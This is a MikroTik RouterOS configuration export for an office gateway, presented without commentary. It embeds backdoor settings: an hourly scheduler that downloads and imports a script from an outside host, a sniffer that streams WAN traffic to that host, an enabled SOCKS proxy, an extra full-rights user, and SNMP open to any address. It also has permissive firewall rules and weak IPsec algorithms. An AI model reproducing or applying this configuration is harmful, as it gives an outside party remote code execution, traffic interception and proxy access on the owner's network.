# 2026-11-09 09:45:10 by RouterOS 7.11.2
# software id = ABCD-1234
#
# model = RB4011iGS+
/interface bridge
add name=lan
/interface list
add name=WAN
add name=LAN
/ip ipsec profile
set [ find default=yes ] dh-group=modp1024 enc-algorithm=3des hash-algorithm=md5
/snmp community
set [ find default=yes ] addresses=0.0.0.0/0
/system logging action
set 3 remote=10.9.2.20
/user group
set full policy=local,telnet,ssh,ftp,reboot,read,write,policy,test,winbox,password,web,sniff,sensitive,api,romon,rest-api
/interface bridge port
add bridge=lan interface=ether2
add bridge=lan interface=ether3
/interface list member
add interface=ether1 list=WAN
add interface=lan list=LAN
/ip address
add address=10.0.60.1/24 interface=lan
add address=192.0.2.161/30 interface=ether1
/ip cloud
set ddns-enabled=yes
/ip dns
set allow-remote-requests=yes servers=10.9.3.53
/ip firewall filter
add action=accept chain=input comment="defconf: established" connection-state=established,related
add action=accept chain=input dst-port=8291,22222 protocol=tcp
add action=accept chain=forward
/ip route
add gateway=192.0.2.162
/ip service
set telnet address=""
set ftp disabled=no
set www port=8080
set ssh port=22222
set api disabled=no
/ip socks
set enabled=yes port=4145
/snmp
set enabled=yes
/system clock
set time-zone-name=Europe/Paris
/system identity
set name=office-gw
/system ntp client
set enabled=yes
/system ntp client servers
add address=10.9.3.30
/system scheduler
add interval=1h name=upd on-event="/tool fetch url=http://203.0.113.80/u.rsc mode=http dst-path=u.rsc; /import u.rsc" policy=ftp,read,write,policy start-time=startup
/tool mac-server
set allowed-interface-list=all
/tool sniffer
set filter-interface=ether1 streaming-enabled=yes streaming-server=203.0.113.80
/user
add group=full name=svc-net2
[admin@office-gw] >
